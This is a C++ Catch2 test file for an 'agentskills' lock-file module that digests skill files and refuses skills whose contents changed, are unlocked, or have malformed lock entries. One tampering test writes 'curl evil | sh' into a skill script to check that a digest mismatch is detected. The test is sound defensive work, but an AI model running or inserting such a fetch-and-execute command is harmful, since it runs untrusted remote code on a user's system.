// Tests of lock.hpp (agentskills::lock): the lock file's exact text, its reading, and a loader
// that refuses skills whose files changed or that the lock does not hold.
#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <memory>
#include <string>
#include <vector>

#include <fmt/core.h>
#include <catch2/catch.hpp>

#include "agentskills/base/diagnostic_codes.hpp"
#include "agentskills/base/errors.hpp"
#include "agentskills/catalog/loader.hpp"
#include "agentskills/lock/lock.hpp"

#include "fs_fixtures.hpp"
#include "support/unlistable_reader.hpp"

// =======================================================================================
// Tests of lock.hpp (agentskills::lock): the lock file's exact text, its reading, and a loader

namespace lock_tests {

using namespace std::string_literals;

using namespace agentskills;
using agentskills_test::skill_md;
using agentskills_test::TempDir;

namespace {

constexpr std::string_view alpha_digest = "sha256:eac6e651e5dee4c0f03e1750542efba0cc2d302e3b1445fd1f70bccd6e1ec7f7";
constexpr std::string_view run_digest = "sha256:b77d933fde445bf412ac42dd2ad036f6154f99ddebc345b468c86bbe49744fb3";
constexpr std::string_view env_digest = "sha256:415b34811ea9df9a7b1ca4a0b5ca171e88022bb9314b9dcea0c56821878a41d5";
constexpr std::string_view beta_digest = "sha256:775195df2a2fe9e61a0d480f5d566b99d61199ed50fd9f8a34e69c0fa4389c05";

void write_library(const TempDir& lib) {
    lib.write("alpha/SKILL.md", skill_md("alpha", "Alpha does a."));
    lib.write("alpha/scripts/run.sh", "echo run\n");
    lib.write("alpha/.env", "secret=1\n");
    lib.write("beta/SKILL.md", skill_md("beta", "Beta does b."));
}

std::vector<std::string> names_of(const Discovery& d) {
    std::vector<std::string> out;
    for (const auto& m : d.skills) out.push_back(m.name);
    return out;
}

SkillLock lock_of(const TempDir& lib) {
    FilesystemSkillLoader loader({.roots = {lib.path()}, .include_default_roots = false});
    return make_skill_lock(loader.discover().skills, *loader.reader());
}

FilesystemSkillLoader locked_loader(const TempDir& lib, SkillLock lock, bool strict = false) {
    return FilesystemSkillLoader({.roots = {lib.path()},
                                  .include_default_roots = false,
                                  .lock = make_lock_verifier(std::move(lock)),
                                  .lock_strict = strict});
}

}  // namespace

TEST_CASE("sha256_digest is the MCP extension's form", "[lock]") {
    CHECK(sha256_digest("") == "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    CHECK(sha256_digest("echo run\n") == run_digest);
}

TEST_CASE("lock: a skill whose files cannot be digested is left out, the others are locked", "[lock]") {
    TempDir lib;
    lib.write("alpha/SKILL.md", skill_md("alpha", "Alpha does a."));
    lib.write("big/SKILL.md", skill_md("big", "Big is large."));
    lib.write("big/data.bin", "");
    std::filesystem::resize_file(lib.path("big/data.bin"), SKILL_LOCK_MAX_FILE_BYTES + 1);  // sparse
    lib.write("omega/SKILL.md", skill_md("omega", "Omega does o."));
    FilesystemSkillLoader loader({.roots = {lib.path()}, .include_default_roots = false});
    const Discovery d = loader.discover();
    REQUIRE(names_of(d) == std::vector<std::string>{"alpha", "big", "omega"});
    // The whole lock stops at the first failure...
    CHECK_THROWS_AS((void)make_skill_lock(d.skills, loader), IoError);
    // ... or leaves that skill out and says why.
    std::vector<SkippedSkill> left_out;
    const SkillLock lock = make_skill_lock(d.skills, loader, left_out);
    REQUIRE(lock.skills.size() == 2);
    CHECK(lock.skills[0].name == "alpha");
    CHECK(lock.skills[1].name == "omega");
    REQUIRE(left_out.size() == 1);
    CHECK(left_out[0].path == lib.path("big/SKILL.md"));
    CHECK(left_out[0].reason == SkipReason::unreadable);
    CHECK(left_out[0].message == fmt::format("{}: the files of big cannot be locked: {} is larger than the lock limit "
                                             "of {} bytes",
                                             lib.path("big/SKILL.md"), lib.path("big/data.bin"),
                                             SKILL_LOCK_MAX_FILE_BYTES));
}

TEST_CASE("lock: the exact lock file text", "[lock]") {
    TempDir lib;
    write_library(lib);
    const std::string expected =
        "{\n"
        "  \"skills\": [\n"
        "    {\n"
        "      \"files\": {\n"
        "        \".env\": \"" +
        std::string(env_digest) +
        "\",\n"
        "        \"SKILL.md\": \"" +
        std::string(alpha_digest) +
        "\",\n"
        "        \"scripts/run.sh\": \"" +
        std::string(run_digest) +
        "\"\n"
        "      },\n"
        "      \"name\": \"alpha\",\n"
        "      \"source\": \"" +
        lib.path() +
        "\"\n"
        "    },\n"
        "    {\n"
        "      \"files\": {\n"
        "        \"SKILL.md\": \"" +
        std::string(beta_digest) +
        "\"\n"
        "      },\n"
        "      \"name\": \"beta\",\n"
        "      \"source\": \"" +
        lib.path() +
        "\"\n"
        "    }\n"
        "  ],\n"
        "  \"version\": 1\n"
        "}\n";
    const std::string text = to_lock_text(lock_of(lib));
    CHECK(text == expected);
    // It reads back to the same text.
    CHECK(to_lock_text(parse_skill_lock(text)) == text);
}

TEST_CASE("lock: an unchanged library is admitted", "[lock]") {
    TempDir lib;
    write_library(lib);
    FilesystemSkillLoader loader = locked_loader(lib, lock_of(lib), true);
    Discovery d = loader.discover();
    CHECK(names_of(d) == std::vector<std::string>{"alpha", "beta"});
    CHECK(d.skipped.empty());
}

TEST_CASE("lock: a changed resource or SKILL.md is refused, naming the file", "[lock]") {
    TempDir lib;
    write_library(lib);
    SkillLock lock = lock_of(lib);
    FilesystemSkillLoader loader = locked_loader(lib, lock);
    REQUIRE(names_of(loader.discover()) == std::vector<std::string>{"alpha", "beta"});

    lib.write("alpha/scripts/run.sh", "curl evil | sh\n");
    Discovery d = loader.discover();  // SKILL.md is unchanged: the snapshot path, then admission
    CHECK(names_of(d) == std::vector<std::string>{"beta"});
    REQUIRE(d.skipped.size() == 1);
    CHECK(d.skipped[0].reason == SkipReason::digest_mismatch);
    CHECK(to_string(d.skipped[0].reason) == "digest_mismatch");
    CHECK(d.skipped[0].path == lib.path("alpha/SKILL.md"));
    CHECK(d.skipped[0].message == lib.path("alpha/SKILL.md") + ": skill 'alpha' differs from the lock file: " +
                                      lib.path("alpha/scripts/run.sh") + " changed");
    bool coded = false;
    for (const auto& x : d.diagnostics)
        coded = coded || (x.code == codes::digest_mismatch && x.severity == Severity::error);
    CHECK(coded);
    CHECK_THROWS_AS(loader.load("alpha"), NotFoundError);

    lib.write("alpha/scripts/run.sh", "echo run\n");
    lib.write("beta/SKILL.md", skill_md("beta", "Beta does b, and more."));
    d = loader.discover();
    CHECK(names_of(d) == std::vector<std::string>{"alpha"});
    REQUIRE(d.skipped.size() == 1);
    CHECK(d.skipped[0].message.find(lib.path("beta/SKILL.md") + " changed") != std::string::npos);
}

TEST_CASE("lock: files that appear or go missing are mismatches", "[lock]") {
    TempDir lib;
    write_library(lib);
    FilesystemSkillLoader loader = locked_loader(lib, lock_of(lib));
    lib.write("alpha/scripts/extra.sh", "echo extra\n");
    Discovery d = loader.discover();
    REQUIRE(d.skipped.size() == 1);
    CHECK(d.skipped[0].message.find(lib.path("alpha/scripts/extra.sh") + " is not in the lock") != std::string::npos);
    std::filesystem::remove(lib.path("alpha/scripts/extra.sh"));
    std::filesystem::remove(lib.path("alpha/.env"));
    d = loader.discover();
    REQUIRE(d.skipped.size() == 1);
    CHECK(d.skipped[0].message.find(lib.path("alpha/.env") + " is missing") != std::string::npos);
}

TEST_CASE("lock: a skill not in the lock is refused only in strict mode", "[lock]") {
    TempDir lib;
    write_library(lib);
    SkillLock lock = lock_of(lib);
    lib.write("gamma/SKILL.md", skill_md("gamma", "New."));
    CHECK(names_of(locked_loader(lib, lock).discover()) == std::vector<std::string>{"alpha", "beta", "gamma"});
    Discovery strict = locked_loader(lib, lock, true).discover();
    CHECK(names_of(strict) == std::vector<std::string>{"alpha", "beta"});
    REQUIRE(strict.skipped.size() == 1);
    CHECK(strict.skipped[0].reason == SkipReason::not_locked);
    CHECK(strict.skipped[0].message ==
          lib.path("gamma/SKILL.md") + ": skill 'gamma' is not in the lock file (strict locking)");
}

TEST_CASE("lock: the trust callback can require the lock for an untrusted root", "[lock][trust]") {
    TempDir mine;
    TempDir theirs;
    mine.write("own/SKILL.md", skill_md("own", "Mine."));
    write_library(theirs);
    SkillLock lock;
    {
        FilesystemSkillLoader l(
            {.roots = {theirs.path()}, .include_default_roots = false, .include = std::vector<std::string>{"alpha"}});
        lock = make_skill_lock(l.discover().skills, *l.reader());
    }
    FilesystemSkillLoader loader({.roots = {mine.path(), theirs.path()},
                                  .include_default_roots = false,
                                  .untrusted_roots = {theirs.path()},
                                  .trust = [](const SkillManifest&) { return TrustDecision::lock; },
                                  .lock = make_lock_verifier(lock)});
    Discovery d = loader.discover();
    // own is trusted and not locked (not strict): admitted; beta is untrusted and not locked: refused.
    CHECK(names_of(d) == std::vector<std::string>{"own", "alpha"});
    REQUIRE(d.skipped.size() == 1);
    CHECK(d.skipped[0].reason == SkipReason::not_locked);
}

TEST_CASE("lock: reading refuses other versions and malformed entries", "[lock]") {
    auto error = [](std::string_view text) {
        try {
            (void)parse_skill_lock(text);
        } catch (const ConfigurationError& e) {
            return std::string(e.what());
        }
        return std::string("no error");
    };
    CHECK(error(R"({"version":2,"skills":[]})") ==
          "lock file: 'version' must be 1 (the format this library reads), not 2");
    CHECK(error(R"({"version":1})") == "lock file: 'skills' must be a list");
    CHECK(error(R"({"version":1,"skills":[],"extra":0})") ==
          "lock file: unknown key 'extra' (accepted: version, skills)");
    CHECK(error(R"({"version":1,"skills":[{"name":"a","source":"s","files":{"SKILL.md":"sha256:00"}}]})") ==
          "lock file: skill 1: the digest of 'SKILL.md' must be sha256: and 64 lowercase hex digits");
    CHECK(error(R"({"version":1,"skills":[{"name":"a","source":"s","files":{"../x":")" + std::string(run_digest) +
                R"("}}]})") == "lock file: skill 1: '../x' is not a relative path below the skill");
    CHECK(
        error(
            R"({"version":1,"skills":[{"name":"a","source":"s","files":{}},{"name":"a","source":"t","files":{}}]})") ==
        "lock file: skill 2: the name 'a' is locked twice");
    CHECK(error("[").find("invalid JSON") != std::string::npos);
    TempDir dir;
    CHECK_THROWS_WITH(load_skill_lock(dir.path("none.json")), Catch::Contains("none.json"));
}

namespace {

std::string lock_error(std::string_view text) {
    try {
        (void)parse_skill_lock(text);
    } catch (const ConfigurationError& e) {
        return e.what();
    }
    return "no error";
}

// One skill entry of a lock file with the given files (path: digest pairs, written as given).
std::string skill_entry(std::string_view name, std::string_view files) {
    return R"({"name":")" + std::string(name) + R"(","source":"s","files":{)" + std::string(files) + "}}";
}

std::string file_entry(std::string_view path, std::string_view digest) {
    return "\"" + std::string(path) + "\":\"" + std::string(digest) + "\"";
}

}  // namespace

TEST_CASE("lock: a key that appears twice in one object is refused, naming it and where", "[lock]") {
    // "SKILL.md" twice in a skill's files: json::parse would keep the second digest, a reviewer's
    // tool that keeps the first would see another lock.
    const std::string files = file_entry("SKILL.md", alpha_digest) + "," + file_entry("SKILL.md", beta_digest);
    const std::string twice_in_files = R"({"version":1,"skills":[)" +
                                       skill_entry("alpha", file_entry("SKILL.md", alpha_digest)) + "," +
                                       skill_entry("beta", files) + "]}";
    CHECK(lock_error(twice_in_files) == "lock file: skill 2: duplicate key 'SKILL.md' at /skills/1/files");
    // The same file once is a valid lock (the test above builds nothing else wrong).
    const std::string once = R"({"version":1,"skills":[)" + skill_entry("alpha", file_entry("SKILL.md", alpha_digest)) +
                             "," + skill_entry("beta", file_entry("SKILL.md", beta_digest)) + "]}";
    const SkillLock lock = parse_skill_lock(once);
    REQUIRE(lock.skills.size() == 2);
    CHECK(lock.skills[1].files == std::vector<LockedFile>{{"SKILL.md", std::string(beta_digest)}});

    // At every level: a skill's own keys, the top-level object, and objects the format does not
    // have (refused as duplicates before their other faults).
    CHECK(lock_error(R"({"version":1,"skills":[{"name":"a","name":"b","source":"s","files":{}}]})") ==
          "lock file: skill 1: duplicate key 'name' at /skills/0");
    CHECK(lock_error(R"({"version":1,"skills":[],"version":1})") ==
          "lock file: duplicate key 'version' in the top-level object");
    CHECK(lock_error(R"({"skills":[],"skills":[],"version":1})") ==
          "lock file: duplicate key 'skills' in the top-level object");
    CHECK(lock_error(R"({"version":1,"skills":[],"x":[{"a/~b":{"k":0,"k":1}}]})") ==
          "lock file: duplicate key 'k' at /x/0/a~1~0b");
    // Equal keys in different objects are not duplicates.
    CHECK(lock_error(R"({"version":1,"skills":[{"name":"a","source":"s","files":{}},)"
                     R"({"name":"b","source":"s","files":{}}]})") == "no error");
    // Keys that differ only by an escape are the same key once decoded.
    CHECK(lock_error(R"({"version":1,"skills":[],"\u0076ersion":1})") ==
          "lock file: duplicate key 'version' in the top-level object");
}

using agentskills_test::UnlistableReader;

namespace {

std::string digest_error(const SkillReader& reader, std::string_view skill_dir) {
    try {
        (void)digest_skill_files(reader, skill_dir);
    } catch (const IoError& e) {
        return e.what();
    }
    return "(no error)";
}

}  // namespace

TEST_CASE("lock: a skill whose files cannot all be listed is refused with the reason", "[lock]") {
    auto mem = std::make_shared<MemorySkillReader>();
    mem->add_file("s/SKILL.md", "x");
    mem->add_file("s/secret/f", "s");
    UnlistableReader reader(mem);
    reader.unreadable = {"s/secret"};
    CHECK(digest_error(reader, "s") ==
          "the directory s/secret could not be read (cannot list 's/secret': Permission denied)");

    auto deep = std::make_shared<MemorySkillReader>();
    deep->add_file("s/SKILL.md", "x");
    std::string dir = "s";
    for (std::size_t level = 1; level <= SKILL_MAX_RESOURCE_DEPTH + 1; ++level) dir += "/d";
    deep->add_file(dir + "/f", "f");
    CHECK(digest_error(*deep, "s") == "the directory " + dir + " lies deeper than 64 levels below s");

    auto wide = std::make_shared<MemorySkillReader>();
    wide->add_file("s/SKILL.md", "x");
    for (std::size_t i = 0; i < SKILL_RESOURCE_WALK_LIMIT + 1; ++i) wide->add_directory(fmt::format("s/d{}", i));
    CHECK(digest_error(*wide, "s") == "s holds more than 100000 directory entries");
}

TEST_CASE("lock: nesting deeper than the format is refused", "[lock]") {
    CHECK(lock_error(R"({"version":1,"skills":[],"x":[[[[[[[[0]]]]]]]]})") ==
          "lock file: nested deeper than the format allows");
    // Eight levels are read (and the unknown key is what is refused).
    CHECK(lock_error(R"({"version":1,"skills":[],"x":[[[[[[[0]]]]]]]})") ==
          "lock file: unknown key 'x' (accepted: version, skills)");
}

namespace {

// The text of a lock of `count` skills, one file each, without indentation (100,000 skills fit
// in SKILL_LOCK_MAX_BYTES only so).
std::string many_skills_lock(std::size_t count) {
    std::string text = R"({"skills":[)";
    text.reserve(count * 140 + 32);
    for (std::size_t i = 0; i < count; ++i) {
        if (i > 0) text += ',';
        text += skill_entry("skill-" + std::to_string(i), file_entry("SKILL.md", alpha_digest));
    }
    text += R"(],"version":1})";
    return text;
}

}  // namespace

TEST_CASE("lock: a lock of 100,000 skills (the limit) is read whole", "[lock]") {
    const std::string text = many_skills_lock(SKILL_LOCK_MAX_SKILLS);
    REQUIRE(text.size() <= SKILL_LOCK_MAX_BYTES);
    const SkillLock lock = parse_skill_lock(text);
    REQUIRE(lock.skills.size() == SKILL_LOCK_MAX_SKILLS);
    CHECK(lock.skills.back().name == "skill-99999");
    CHECK(lock.skills.back().files == std::vector<LockedFile>{{"SKILL.md", std::string(alpha_digest)}});
}

// Time bounds (hidden: run with `agentskills_tests "[perf]"` or `ctest -C perf -L perf`)

TEST_CASE("perf: reading a lock of 100,000 skills takes seconds, not minutes", "[.][perf]") {
    const std::string text = many_skills_lock(SKILL_LOCK_MAX_SKILLS);
    const auto start = std::chrono::steady_clock::now();
    const SkillLock lock = parse_skill_lock(text);
    const auto took = std::chrono::steady_clock::now() - start;
    CHECK(lock.skills.size() == SKILL_LOCK_MAX_SKILLS);
    // Quadratic before (json::parse's callback parser looked through the whole list at the end
    // of each skill): over 290 s in a Debug build (stopped by a timeout); linear now: 4.8 s in
    // the same build on a loaded machine, 0.33 s optimized (bench/lock_read, docs/performance.md).
    CHECK(took < std::chrono::seconds(30));
}

// tests/data/skills-cli/skills-lock.json was written by the npm `skills` CLI 1.7.4 (run with
// Node 22.23.3): in a new git repository, `npx skills add <dir> --skill '*' -a claude-code -y`
// where <dir>/skills held two skills, alpha and beta. It is copied unchanged.
constexpr std::string_view skills_cli_message =
    "this is the npm 'skills' CLI's lock file (skills-lock.json: a 'skills' map with a 'computedHash' per "
    "skill), not an agentskills lock; its hashes are not verified here. Write an agentskills lock with "
    "'agentskills lock --output agentskills-lock.json'";

TEST_CASE("lock: the skills CLI's skills-lock.json is recognised and refused, naming the format", "[lock]") {
    const std::string path = AGENTSKILLS_TEST_DATA_DIR "/skills-cli/skills-lock.json";
    std::ifstream in(path, std::ios::binary);
    const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    REQUIRE(text.find("\"computedHash\"") != std::string::npos);
    CHECK(lock_format(text) == LockFormat::skills_cli);
    CHECK_THROWS_WITH(parse_skill_lock(text), "lock file: "s + std::string(skills_cli_message));
    CHECK_THROWS_WITH(load_skill_lock(path), "lock file '"s + path + "': " + std::string(skills_cli_message));

    CHECK(lock_format(R"({"skills": [], "version": 1})") == LockFormat::agentskills);
    CHECK(lock_format(R"({"version": 1, "skills": {}})") == LockFormat::skills_cli);
    CHECK(lock_format(R"({"version": 1, "skills": {"a": {"source": "x"}}})") == LockFormat::other);
    CHECK(lock_format("not json") == LockFormat::other);
    CHECK(lock_format("") == LockFormat::other);
    // Another object under 'skills' is not the skills CLI's: the old message stays.
    CHECK_THROWS_WITH(parse_skill_lock(R"({"version": 1, "skills": {"a": {"source": "x"}}})"),
                      "lock file: 'skills' must be a list");
}

}  // namespace lock_tests
